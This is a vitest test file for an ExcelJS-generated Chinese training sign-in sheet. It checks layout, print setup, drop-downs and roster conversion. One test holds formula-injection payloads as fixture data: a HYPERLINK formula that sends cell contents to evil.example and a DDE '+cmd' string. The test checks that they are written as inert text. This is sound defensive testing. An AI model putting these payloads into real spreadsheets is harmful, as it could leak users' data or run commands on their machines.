import ExcelJS from 'exceljs';
import { describe, expect, it, vi } from 'vitest';
import type { Registration } from '../../../shared/domain/trainee-registration';
import { type SignInRow, signInRowOf } from '../../../shared/forms/index';
import {
  firstClass,
  loadWorkbook,
  positionIn,
  programme,
  registrationIdOf,
  SESSIONS,
  signInRows,
  signInSheet,
} from '../../fixtures/sign-in-data';
import { unzipEntries } from '../../fixtures/spreadsheet-files';

type WithValidations = { dataValidations: { model: Record<string, ExcelJS.DataValidation> } };

async function builtSheet(...args: Parameters<typeof signInSheet>) {
  const data = await signInSheet(...args);
  const workbook = await loadWorkbook(data);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return { data, workbook, sheet, at: positionIn(sheet) };
}

const textOf = (sheet: ExcelJS.Worksheet) => JSON.stringify(sheet.getSheetValues());

describe('the printable sign-in sheet', () => {
  it('has the fixed columns and one column per session, headed 第k场 with the session label', async () => {
    // Prepare / Act
    const { sheet, at } = await builtSheet(signInRows(3));
    // Assess
    const headers = (sheet.getRow(at.headerRow).values as unknown[]).slice(1).map((v) => String(v).replace(/\n/g, ''));
    expect(headers.slice(0, 6)).toEqual(['序号', '报名编号', '姓名', '所在单位', '企业名称', '职务']);
    expect(headers.slice(6)).toEqual(SESSIONS.map((s) => `第${s.session}场 ${s.label}`));
    expect(headers).toHaveLength(6 + 8);
    expect(headers[6]).toBe('第1场 第1天上午（9月23日）');
    expect(headers[13]).toBe('第8场 第4天下午（9月26日）');
    expect(sheet.name).toBe('签到表');
  });

  it('prints on A4 landscape, one page wide, with the title and header repeated on every page; header frozen', async () => {
    const { sheet, at } = await builtSheet(signInRows(60));
    expect(sheet.pageSetup.orientation).toBe('landscape');
    expect(sheet.pageSetup.paperSize).toBe(9);
    expect(sheet.pageSetup.fitToPage).toBe(true);
    expect(sheet.pageSetup.fitToWidth).toBe(1);
    expect(sheet.pageSetup.fitToHeight).toBe(0);
    expect(sheet.pageSetup.printTitlesRow).toBe(`1:${at.headerRow}`);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: at.headerRow });
    expect(sheet.getColumn(5).width).toBeGreaterThanOrEqual(20); // enterprise names are long
  });

  it('titles the sheet with the year, class, theme, host, city·venue and dates', async () => {
    const { sheet } = await builtSheet(signInRows(1));
    expect(sheet.getCell('A1').value).toBe('2024年度中小企业经营管理领军人才培训 第1期「高质量发展专题」签到表');
    const info = String(sheet.getCell('A2').value);
    expect(info).toContain('清华大学');
    expect(info).toContain('北京·清华大学（示例场地）');
    expect(info).toContain('2024年9月23日至9月26日');
  });

  it('says in red that the schedule is sample data when it is, and not otherwise', async () => {
    const sample = await builtSheet(signInRows(1), { sampleData: true });
    const line = sample.sheet.getCell('A3');
    expect(String(line.value)).toMatch(/示例数据.*附件1/);
    expect(line.font?.color?.argb).toBe('FFC00000');

    const published = await builtSheet(signInRows(1), { sampleData: false });
    expect(textOf(published.sheet)).not.toContain('示例数据');
    expect(published.at.headerRow).toBe(sample.at.headerRow - 1);
  });

  it('writes provinces’ text that looks like a formula as text with a leading apostrophe, never as a formula', async () => {
    const [row] = signInRows(1);
    if (!row) throw new Error('no row');
    const hostile = {
      ...row,
      name: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
      unitName: '@SUM(1,2)',
      enterpriseName: '+cmd|" /C calc"!A0',
      position: '-2+3',
    };
    const tabbed = { ...row, registrationId: registrationIdOf(2), name: '\t=1+1', position: '\r=1+1' };
    const { data, sheet, at } = await builtSheet([hostile, tabbed]);
    const line = sheet.getRow(at.headerRow + 1);
    for (const [column, original] of [
      [3, hostile.name],
      [4, hostile.unitName],
      [5, hostile.enterpriseName],
      [6, hostile.position],
    ] as const) {
      const cell = line.getCell(column);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${original}`);
    }
    expect(sheet.getRow(at.headerRow + 2).getCell(3).value).toBe("'\t=1+1");
    // XML reads a carriage return back as a line feed; what matters is the apostrophe in front.
    expect(sheet.getRow(at.headerRow + 2).getCell(6).value).toMatch(/^'\s=1\+1$/);
    const sheetXml = (await unzipEntries(data)).find((entry) => entry.name === 'xl/worksheets/sheet1.xml');
    expect(sheetXml?.data.toString('utf8')).not.toMatch(/<f[ >]/);
    // Ordinary text is left alone.
    expect(line.getCell(2).value).toBe(hostile.registrationId);
  });

  it('pre-fills recorded statuses in Chinese and the leave the unit granted; blank otherwise', async () => {
    const [first, second] = signInRows(2);
    if (!first || !second) throw new Error('no rows');
    const rows = [
      { ...first, recorded: { 1: 'present', 2: 'late', 3: 'absent' } as const, leave: [3, 5] },
      { ...second, leave: [8] },
    ];
    const { sheet, at } = await builtSheet(rows);
    const cell = (registrationId: string, session: number) =>
      sheet.getRow(at.rowOf(registrationId)).getCell(at.sessionColumn(session)).value;
    expect(cell(first.registrationId, 1)).toBe('出勤');
    expect(cell(first.registrationId, 2)).toBe('迟到');
    expect(cell(first.registrationId, 3)).toBe('缺勤'); // a record wins over leave
    expect(cell(first.registrationId, 5)).toBe('请假（已批准）');
    expect(cell(first.registrationId, 4)).toBeNull();
    expect(cell(second.registrationId, 8)).toBe('请假（已批准）');
    expect(sheet.getRow(at.rowOf(second.registrationId)).getCell(1).value).toBe(2);
  });

  it('offers 出勤/迟到/缺勤 as a drop-down on every session cell of every trainee', async () => {
    const { sheet, at } = await builtSheet(signInRows(4));
    const model = (sheet as unknown as WithValidations).dataValidations.model;
    for (let row = at.headerRow + 1; row <= at.headerRow + 4; row++) {
      for (let session = 1; session <= 8; session++) {
        const address = sheet.getRow(row).getCell(at.sessionColumn(session)).address;
        expect(model[address], address).toMatchObject({ type: 'list', formulae: ['"出勤,迟到,缺勤"'] });
      }
    }
    expect(model[sheet.getRow(at.headerRow + 1).getCell(at.idColumn).address]).toBeUndefined();
  });

  it('ends with how to fill it in: the three marks, leave only through the unit, upload as form "attendance"', async () => {
    const { sheet, at } = await builtSheet(signInRows(2));
    const below = Array.from({ length: sheet.rowCount - at.headerRow - 2 }, (_, i) =>
      String(sheet.getRow(at.headerRow + 3 + i).getCell(1).value ?? ''),
    ).join('\n');
    for (const words of ['出勤', '迟到', '缺勤', '请假', '所在单位', 'POST /uploads', 'attendance']) {
      expect(below).toContain(words);
    }
  });

  it('turns a roster entry into a row: unit by name, records and leave by session number', () => {
    const registration = {
      registrationId: registrationIdOf(7, '330200'),
      unit: '330200',
      trainee: { name: '王五', enterpriseName: '宁波示例有限公司', position: '董事长' },
      attendance: { '1': { status: 'late', recordedBy: 'h', recordedAt: '2024-09-23T09:00:00+08:00' } },
      leave: { '4': { reason: '病假', unit: '330200', grantedBy: 'u', grantedAt: '2024-09-20T09:00:00+08:00' } },
    } as unknown as Registration;
    expect(signInRowOf(registration)).toEqual({
      registrationId: registration.registrationId,
      name: '王五',
      unitName: '宁波市',
      enterpriseName: '宁波示例有限公司',
      position: '董事长',
      leave: [4],
      recorded: { 1: 'late' },
    });
  });

  it('uses the programme as shipped, which is sample data', () => {
    expect(programme.sampleData).toBe(true);
  });
});

describe('a roster entry with gaps', () => {
  it('skips empty attendance and leave entries and keeps the code of a unit it does not know', () => {
    const registration = {
      registrationId: registrationIdOf(9, '999999'),
      unit: '999999',
      trainee: { name: '赵六', enterpriseName: '示例有限公司', position: '经理' },
      attendance: { '1': null, '2': { status: 'absent', recordedBy: 'h', recordedAt: '2024-09-23T14:00:00+08:00' } },
      leave: {
        '3': null,
        '5': { reason: '事假', unit: '999999', grantedBy: 'u', grantedAt: '2024-09-20T09:00:00+08:00' },
      },
    } as unknown as Registration;
    expect(signInRowOf(registration)).toEqual({
      registrationId: registration.registrationId,
      name: '赵六',
      unitName: '999999',
      enterpriseName: '示例有限公司',
      position: '经理',
      leave: [5],
      recorded: { 2: 'absent' },
    });
  });
});

/**
 * The sheet as printed and as opened in Excel: merged title lines, fonts, fills, borders, text formats, the drop-down's
 * messages, the legend and signature lines, freezing and page setup. Expected values are the sheet a host should get
 * (A4 landscape, the header on a blue fill, granted leave greyed out, the 报名编号 column small and unwrapped), written
 * by hand.
 *
 * The builder is imported afresh inside each test (vi.resetModules): its border and fill styles are module-level
 * constants, which a module loaded before a mutant is switched on would keep (see "hybrid" in
 * docs/mutation-testing.md).
 */
async function freshSheet(
  trainees: readonly SignInRow[],
  options: { sampleData?: boolean; sessions?: typeof SESSIONS; trainingClass?: typeof firstClass } = {},
) {
  vi.resetModules();
  const { buildSignInSheet } = await import('../../../shared/forms/sign-in-sheet');
  const data = await buildSignInSheet({
    programme: { ...programme, sampleData: options.sampleData ?? true },
    trainingClass: options.trainingClass ?? firstClass,
    sessions: options.sessions ?? SESSIONS,
    trainees,
  });
  const workbook = await loadWorkbook(data);
  const sheet = workbook.worksheets[0];
  if (!sheet) throw new Error('no sheet');
  return { workbook, sheet };
}

const THIN_BLACK = { style: 'thin', color: { argb: 'FF000000' } };
const BOXED = { top: THIN_BLACK, left: THIN_BLACK, bottom: THIN_BLACK, right: THIN_BLACK };

describe('the printable sign-in sheet, cell by cell', () => {
  it('merges the title lines across the 6 fixed and 8 session columns (A:N) and sets their fonts', async () => {
    const { workbook, sheet } = await freshSheet(signInRows(1));
    expect(workbook.creator).toBe('领军人才培训管理系统');
    expect(workbook.created?.toISOString()).toBe('2024-09-22T16:00:00.000Z'); // 9月23日 0:00 Beijing time
    const merges = (sheet.model as unknown as { merges: string[] }).merges;
    expect(merges).toEqual(expect.arrayContaining(['A1:N1', 'A2:N2', 'A3:N3']));
    const title = sheet.getRow(1);
    expect(title.height).toBe(30);
    expect(title.getCell(1).font).toMatchObject({ bold: true, size: 16 });
    expect(title.getCell(1).alignment).toMatchObject({ vertical: 'middle', horizontal: 'center', wrapText: true });
    expect(sheet.getRow(2).height).toBe(20);
    expect(sheet.getRow(2).getCell(1).font?.size).toBe(11);
    expect(sheet.getRow(2).getCell(1).font?.bold).toBeFalsy();
    expect(sheet.getRow(3).getCell(1).font).toMatchObject({ bold: true, size: 11, color: { argb: 'FFC00000' } });
  });

  it('gives the columns room: the 23-character 报名编号, enterprise names, a tick or a short signature', async () => {
    const { sheet } = await freshSheet(signInRows(1));
    const width = (column: number) => sheet.getColumn(column).width ?? 0;
    expect(width(1)).toBeLessThanOrEqual(6);
    expect(width(2)).toBeGreaterThanOrEqual(22);
    expect(width(5)).toBeGreaterThanOrEqual(20);
    for (let column = 7; column <= 14; column++) expect(width(column), String(column)).toBeGreaterThanOrEqual(12);
  });

  it('boxes the header on a blue fill, bold, session headers a size smaller', async () => {
    const { sheet } = await freshSheet(signInRows(1));
    const at = positionIn(sheet);
    const header = sheet.getRow(at.headerRow);
    expect(header.height).toBe(48);
    for (let column = 1; column <= 14; column++) {
      const cell = header.getCell(column);
      expect(cell.font, String(column)).toMatchObject({ bold: true, size: column <= 6 ? 10 : 9 });
      expect(cell.fill, String(column)).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFDDEBF7' } });
      expect(cell.border, String(column)).toEqual(BOXED);
      expect(cell.alignment, String(column)).toMatchObject({
        vertical: 'middle',
        horizontal: 'center',
        wrapText: true,
      });
    }
    expect(String(header.getCell(7).value)).toBe('第1场 第1天上午\n（9月23日）');
  });

  it('boxes every trainee cell; 报名编号 small and unwrapped, text columns as text, leave greyed and italic', async () => {
    const [first] = signInRows(1);
    if (!first) throw new Error('no row');
    const { sheet } = await freshSheet([{ ...first, leave: [2], recorded: { 1: 'present' } }]);
    const at = positionIn(sheet);
    const row = sheet.getRow(at.headerRow + 1);
    expect(row.height).toBe(30);
    for (let column = 1; column <= 14; column++) {
      const cell = row.getCell(column);
      const label = `column ${column}`;
      expect(cell.border, label).toEqual(BOXED);
      const centred = column === 1 || column > 6;
      expect(cell.alignment, label).toMatchObject({ vertical: 'middle', horizontal: centred ? 'center' : 'left' });
      expect(Boolean(cell.alignment?.wrapText), label).toBe(column !== 2);
      expect(cell.numFmt === '@', label).toBe(column >= 2 && column <= 6);
      if (column === 8) {
        expect(cell.value).toBe('请假（已批准）');
        expect(cell.fill, label).toEqual({ type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFEDEDED' } });
        expect(cell.font, label).toMatchObject({ size: 9, italic: true });
      } else {
        expect(cell.fill?.type === 'pattern' && cell.fill.pattern, label).not.toBe('solid');
        expect(cell.font?.size, label).toBe(column === 2 ? 8 : 10);
        expect(Boolean(cell.font?.italic), label).toBe(false);
      }
    }
    expect(row.getCell(7).value).toBe('出勤');
  });

  it('explains the drop-down: a stop with the three marks, leave only through the unit', async () => {
    const { sheet } = await freshSheet(signInRows(2));
    const at = positionIn(sheet);
    const model = (sheet as unknown as WithValidations).dataValidations.model;
    expect(model[`G${at.headerRow + 1}`]).toEqual({
      type: 'list',
      allowBlank: true,
      formulae: ['"出勤,迟到,缺勤"'],
      showErrorMessage: true,
      errorStyle: 'stop',
      errorTitle: '签到状态',
      error: '请从下拉列表中选择：出勤、迟到、缺勤。请假由学员所在单位办理，不在本表填写。',
      showInputMessage: true,
      promptTitle: '签到状态',
      prompt: '出勤 / 迟到 / 缺勤；未到场请选缺勤。',
    });
    expect(model[`N${at.headerRow + 2}`]?.type).toBe('list');
    expect(model[`F${at.headerRow + 1}`]).toBeUndefined();
    expect(model[`G${at.headerRow}`]).toBeUndefined();
    expect(model[`G${at.headerRow + 3}`]).toBeUndefined();
  });

  it('has no drop-down when there is nobody on the roster or no session', async () => {
    const nobody = await freshSheet([]);
    expect(Object.keys((nobody.sheet as unknown as WithValidations).dataValidations.model)).toEqual([]);
    const noSession = await freshSheet(signInRows(2), { sessions: [] });
    expect(Object.keys((noSession.sheet as unknown as WithValidations).dataValidations.model)).toEqual([]);
  });

  it('leaves a blank line, then the legend and the signature line, both left-aligned', async () => {
    const { sheet } = await freshSheet(signInRows(2));
    const at = positionIn(sheet);
    const blank = sheet.getRow(at.headerRow + 3);
    expect(blank.getCell(1).value).toBeNull();
    const legend = sheet.getRow(at.headerRow + 4);
    expect(legend.getCell(1).value).toBe(
      '填写说明：每场在对应列选择或填写「出勤」「迟到」或「缺勤」；「请假（已批准）」为学员所在地方中小企业主管部门已办理的请假，' +
        '请勿改动。请假只能由学员所在单位办理，在本表中填写“请假”不作准假，按未签到处理；未签到的场次视为缺勤。' +
        '填好后由承办机构或培训管理人员在系统中上传（POST /uploads，表格类型 form 为 "attendance"，期次 classNumber 为 1），' +
        '请保留本表的表头和报名编号列。',
    );
    expect(legend.height).toBe(54);
    expect(legend.getCell(1).font?.size).toBe(9);
    expect(legend.getCell(1).alignment).toMatchObject({ vertical: 'top', horizontal: 'left', wrapText: true });
    const signature = sheet.getRow(at.headerRow + 5);
    expect(signature.getCell(1).value).toBe(
      '承办机构（盖章）：　　　　　　　　　　　　考勤负责人（签字）：　　　　　　　　　　　　日期：　　　　年　　月　　日',
    );
    expect(signature.height).toBe(32);
    expect(signature.getCell(1).font?.size).toBe(11);
    expect(signature.getCell(1).alignment).toMatchObject({ vertical: 'bottom', horizontal: 'left' });
    expect(signature.getCell(1).alignment?.wrapText).toBeFalsy();
    const merges = (sheet.model as unknown as { merges: string[] }).merges;
    expect(merges).toEqual(expect.arrayContaining([`A${legend.number}:N${legend.number}`]));
    expect(sheet.rowCount).toBe(signature.number);
  });

  it('freezes names and header, prints the roster to the signature line, centred, with page numbers', async () => {
    const { sheet } = await freshSheet(signInRows(2));
    const at = positionIn(sheet);
    expect(sheet.views[0]).toMatchObject({
      state: 'frozen',
      xSplit: 3,
      ySplit: at.headerRow,
      topLeftCell: `D${at.headerRow + 1}`,
    });
    expect(sheet.pageSetup.horizontalCentered).toBe(true);
    expect(sheet.pageSetup.printArea).toBe(`A1:N${at.headerRow + 5}`);
    expect(sheet.pageSetup.margins).toEqual({ left: 0.4, right: 0.4, top: 0.5, bottom: 0.6, header: 0.3, footer: 0.3 });
    expect(sheet.headerFooter.oddFooter).toBe('&C第 &P 页，共 &N 页');
  });

  it('writes both years of a class that runs into the new year', async () => {
    const { sheet } = await freshSheet(signInRows(1), {
      trainingClass: { ...firstClass, startDate: '2024-12-30', endDate: '2025-01-02' },
    });
    expect(String(sheet.getCell('A2').value)).toContain('日期：2024年12月30日至2025年1月2日（共 8 场）');
  });

  it('leaves text alone unless it starts like a formula', async () => {
    vi.resetModules();
    const { inertText } = await import('../../../shared/forms/sign-in-sheet');
    expect(inertText('北京示例科技有限公司')).toBe('北京示例科技有限公司');
    expect(inertText('A=B 有限公司')).toBe('A=B 有限公司');
    expect(inertText('=1+1')).toBe("'=1+1");
    expect(inertText('-1')).toBe("'-1");
  });
});
